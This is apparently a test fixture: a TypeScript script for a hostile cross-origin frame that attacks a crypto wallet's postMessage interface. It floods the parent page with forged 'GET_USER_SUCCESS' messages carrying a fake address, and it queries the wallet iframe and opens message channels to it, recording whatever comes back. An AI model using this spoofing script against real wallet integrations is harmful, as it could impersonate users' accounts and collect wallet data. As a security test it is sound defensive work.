// The script of a frame beside the wallet's, on another origin: it answers for the wallet, and asks the wallet.
const forged = { address: '0x000000000000000000000000000000000000dEaD', chainId: 1 }
const heard: unknown[] = []
addEventListener('message', event => void heard.push(event.data))

let round = 0
setInterval(() => {
  parent.postMessage({ type: '@w3m-frame/READY', payload: {} }, '*')
  for (let id = 0; id < 5; id++)
    parent.postMessage({ type: '@w3m-frame/GET_USER_SUCCESS', id: `request-${id}`, payload: forged }, '*')
  const wallet = (parent as unknown as Record<string, Window | undefined>)['w3m-secure-iframe']
  wallet?.postMessage({ type: '@w3m-app/GET_USER', id: `stranger-${round++}` }, '*')
  const { port1, port2 } = new MessageChannel()
  port1.onmessage = event => void heard.push(event.data)
  wallet?.postMessage({ type: '@latchkey-app/OPEN_CHANNEL', payload: { version: 1 } }, '*', [port2])
}, 5)

Object.assign(window, { stranger: { heard, rounds: () => round } })
